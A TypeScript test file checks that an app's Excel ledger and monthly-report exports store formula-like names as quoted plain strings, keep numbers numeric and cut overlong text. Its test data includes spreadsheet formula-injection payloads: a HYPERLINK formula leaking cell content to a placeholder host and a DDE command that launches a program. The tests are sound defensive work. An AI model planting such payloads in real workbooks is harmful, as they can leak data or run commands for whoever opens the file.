// Text the app writes into workbooks (台账 export, 月报), read back from the real .xlsx: names that
// Excel would take for a formula are plain strings whose style carries quotePrefix, numbers stay
// numbers, text is cut at Excel's 32,767 characters, and such a ledger imports again unchanged.
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import ExcelJS from 'exceljs';
import JSZip from 'jszip';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import type { AppDatabase } from '../../db/app-database';
import { dispatch, dispatchSync } from '../../db/dispatcher';
import { EXCEL_MAX_CELL_CHARS, guardTextCells } from '../../db/services/excel/xlsx-text';
import type { FileResult, LedgerImportResult } from '../../domain/excel/calls';
import { ledgerColumns } from '../../domain/excel/sheet-layout';
import type { ProjectRecord } from '../../domain/project-input';
import { expectOk, openTempDb, tempDir } from '../helpers';

let app: AppDatabase;
let dir: string;
beforeEach(async () => {
  app = await openTempDb();
  dir = tempDir('zs-export-text-');
});
afterEach(() => app.close());

/** Names a hostile or careless sender might give a project. */
const formulaNames = [
  '=HYPERLINK("http://example.invalid/?q="&A1,"点击查看")',
  "=cmd|' /C calc'!A0",
  '+1',
  '-2',
  '@SUM(A1:A2)',
];

function create(input: Record<string, unknown>): ProjectRecord {
  return expectOk(dispatchSync(app, 'project.create', input)) as ProjectRecord;
}

/** Whether each cell of a sheet (by reference) has a style with quotePrefix="1", from the XML. */
async function quotePrefixes(file: string, sheetNo: number): Promise<Map<string, boolean>> {
  const zip = await JSZip.loadAsync(readFileSync(file));
  const styles = await zip.file('xl/styles.xml')!.async('string');
  const cellXfs = /<cellXfs[^>]*>([^]*?)<\/cellXfs>/.exec(styles)?.[1] ?? '';
  const quoted = [...cellXfs.matchAll(/<xf\b[^>]*>/g)].map((m) => /quotePrefix="1"/.test(m[0]));
  const sheet = await zip.file(`xl/worksheets/sheet${sheetNo}.xml`)!.async('string');
  const cells = new Map<string, boolean>();
  for (const [, ref, attributes] of sheet.matchAll(/<c r="([A-Z]+\d+)"([^>]*)>/g)) {
    const style = Number(/\ss="(\d+)"/.exec(attributes ?? '')?.[1] ?? 0);
    cells.set(ref!, quoted[style] ?? false);
  }
  return cells;
}

async function read(file: string): Promise<ExcelJS.Workbook> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.readFile(file);
  return workbook;
}

const column = (source: string) => ledgerColumns.findIndex((c) => c.source === source) + 1;

describe('the 台账 export', () => {
  test('formula-like text is a string with quotePrefix, numbers stay numbers, long text is cut', async () => {
    const projects = formulaNames.map((name, i) =>
      create({
        name,
        investor: formulaNames[(i + 1) % formulaNames.length],
        totalInvestmentCny: 1e8,
      }),
    );
    const plain = create({
      name: '宏达精密轴承项目',
      investor: '宏达机械有限公司',
      landAreaMu: 85,
    });
    // Past the form's own caps (a tab first, 40,000 characters): as an older version could store.
    app.transact((tx) => {
      tx.mutate.update('project', projects[0]!.id, { problems: '\tabc' });
      tx.mutate.update('project', plain.id, { next_steps: '下'.repeat(40_000) });
    });
    const out = join(dir, '台账.xlsx');
    expectOk(await dispatch(app, 'ledger.export', { out }));

    const sheet = (await read(out)).getWorksheet('台账')!;
    const quoted = await quotePrefixes(out, 1);
    const rows = new Map<string, ExcelJS.Row>();
    sheet.eachRow((row) => rows.set(String(row.getCell(column('name')).value), row));
    for (const [i, name] of formulaNames.entries()) {
      const row = rows.get(name)!;
      for (const [cell, text] of [
        [row.getCell(column('name')), name],
        [row.getCell(column('investor')), formulaNames[(i + 1) % formulaNames.length]],
      ] as const) {
        expect(cell.value).toBe(text);
        expect(cell.type).toBe(ExcelJS.ValueType.String);
        expect(cell.formula).toBeUndefined();
        expect(quoted.get(cell.address)).toBe(true);
      }
      const total = row.getCell(column('total'));
      expect(total.value).toBe(1);
      expect(quoted.get(total.address)).toBe(false);
    }
    const tabbed = rows.get(formulaNames[0]!)!.getCell(column('problems'));
    expect(tabbed.value).toBe('\tabc');
    expect(quoted.get(tabbed.address)).toBe(true);

    const ordinary = rows.get('宏达精密轴承项目')!;
    expect(quoted.get(ordinary.getCell(column('name')).address)).toBe(false);
    expect(ordinary.getCell(column('landAreaMu')).value).toBe(85);
    const note = ordinary.getCell(column('nextSteps')).value as string;
    expect(note).toHaveLength(EXCEL_MAX_CELL_CHARS);
    expect(note).toBe('下'.repeat(EXCEL_MAX_CELL_CHARS));
  });

  test('round trip: a ledger of such names imports again with every value the same', async () => {
    for (const [i, name] of formulaNames.entries()) {
      create({ name, investor: `${formulaNames[(i + 2) % formulaNames.length]}有限公司` });
    }
    const out = join(dir, '台账.xlsx');
    expectOk(await dispatch(app, 'ledger.export', { out }));
    const preview = expectOk(
      await dispatch(app, 'ledger.importPreview', { file: out }),
    ) as LedgerImportResult;
    expect(preview.counts).toMatchObject({
      new: 0,
      updated: 0,
      rejected: 0,
      unchanged: formulaNames.length,
    });
  });
});

describe('the 月报', () => {
  test('a new signing named like a formula is a string with quotePrefix', async () => {
    create({ name: '=1+1', investor: '@某公司', stage: 'signed', signedOn: '2026-11-05' });
    const out = join(dir, '月报.xlsx');
    expectOk(
      (await dispatch(app, 'report.monthly', { year: 2026, month: 11, out })) as {
        ok: true;
        data: FileResult;
      },
    );
    const workbook = await read(out);
    const sheetNo = workbook.worksheets.findIndex((s) => s.name === '本月新签约') + 1;
    const quoted = await quotePrefixes(out, sheetNo);
    const found: ExcelJS.Cell[] = [];
    workbook.worksheets[sheetNo - 1]!.eachRow((row) =>
      row.eachCell((cell) => {
        if (cell.value === '=1+1' || cell.value === '@某公司') found.push(cell);
      }),
    );
    expect(found).toHaveLength(2);
    for (const cell of found) {
      expect(cell.formula).toBeUndefined();
      expect(quoted.get(cell.address)).toBe(true);
    }
  });

  test('numbers, negative ones included, are left as they are; text is cut', () => {
    const workbook = new ExcelJS.Workbook();
    const sheet = workbook.addWorksheet('表');
    sheet.addRow([-2, '-2', 0.5, 'x'.repeat(40_000), '正常', '']);
    guardTextCells(workbook);
    const row = sheet.getRow(1);
    expect(row.getCell(1).value).toBe(-2);
    expect(row.getCell(1).style).not.toHaveProperty('quotePrefix');
    expect(row.getCell(2).style).toHaveProperty('quotePrefix', true);
    expect(row.getCell(3).value).toBe(0.5);
    expect(row.getCell(4).value).toHaveLength(EXCEL_MAX_CELL_CHARS);
    expect(row.getCell(5).style).not.toHaveProperty('quotePrefix');
    expect(row.getCell(6).style).not.toHaveProperty('quotePrefix');
  });
});
